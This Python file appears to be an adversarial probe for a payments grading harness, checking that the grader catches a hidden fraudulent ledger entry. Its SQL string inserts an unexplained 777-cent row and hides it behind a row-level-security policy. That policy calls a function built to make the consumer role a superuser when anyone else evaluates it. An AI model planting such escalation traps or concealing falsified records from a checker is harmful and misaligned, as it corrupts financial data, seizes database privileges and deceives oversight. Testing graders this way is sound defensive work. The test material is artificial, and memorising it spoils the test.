"""Adversary (payments): books a ledger entry no order had (an extra 777 cents for
``acct-1``) and hides it behind row-level security: a policy shows the row to its owner
only, and calls a function of the consumer's that would try to make its role a superuser
if anyone else evaluated it. Everything else is the golden consumer's work. A reader bound
by the policy would see a ledger that balances.

Expected: the harness's reader bypasses row-level security (BYPASSRLS, and row_security
off), so no policy of the candidate's runs or hides a row: it sees the extra entry and the
ledger does not balance: consistent_final_state fails, reward 0.

pack: payments
golden: yes
reward: 0
fails: consistent_final_state
"""

import os

import psycopg
from _probe import in_background, query, run_golden, say, wait_for

DSN = os.environ["PG_DSN"]
POLICY = """
CREATE OR REPLACE FUNCTION owner_only() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_user NOT LIKE '%consumer%' THEN
        BEGIN
            EXECUTE format('ALTER ROLE %I SUPERUSER', 'payments_consumer');
        EXCEPTION WHEN others THEN NULL;
        END;
    END IF;
    RETURN current_user LIKE '%consumer%';
END $$;
ALTER TABLE ledger ENABLE ROW LEVEL SECURITY;
CREATE POLICY visible ON ledger USING (amount_cents <> 777 OR owner_only());
INSERT INTO ledger (order_id, account, amount_cents) VALUES ('o-001', 'acct-1', 777);
"""


def hide() -> None:
    # once the golden has made its tables
    if wait_for(lambda: bool(query(DSN, "SELECT 1 FROM ledger LIMIT 1"))):
        with psycopg.connect(DSN, connect_timeout=10, autocommit=True) as conn:
            conn.execute(POLICY)  # type: ignore[arg-type]
        say("adversary: an extra ledger row, hidden by a policy")


in_background(hide)
run_golden()
